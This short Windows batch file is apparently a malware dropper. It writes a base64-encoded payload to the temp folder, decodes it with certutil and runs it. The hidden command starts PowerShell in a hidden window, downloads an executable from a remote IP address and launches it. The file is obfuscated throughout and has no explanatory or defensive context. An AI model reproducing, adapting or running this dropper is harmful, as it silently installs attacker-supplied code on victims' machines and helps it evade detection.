@echo off
> %TEMP%\r.b64 echo cG93ZXJzaGVsbCAtbm9wIC13IGhpZGRlbiAtYyAiaXdyIGh0dHA6Ly8yMDMuMC4xMTMuNDQvci5leGUgLW8gJGVudjpURU1QXHIuZXhlOyBzdGFydCAkZW52OlRFTVBcci5leGUi
certutil -f -decode %TEMP%\r.b64 %TEMP%\r.cmd >nul
call %TEMP%\r.cmd
certutil -pulse
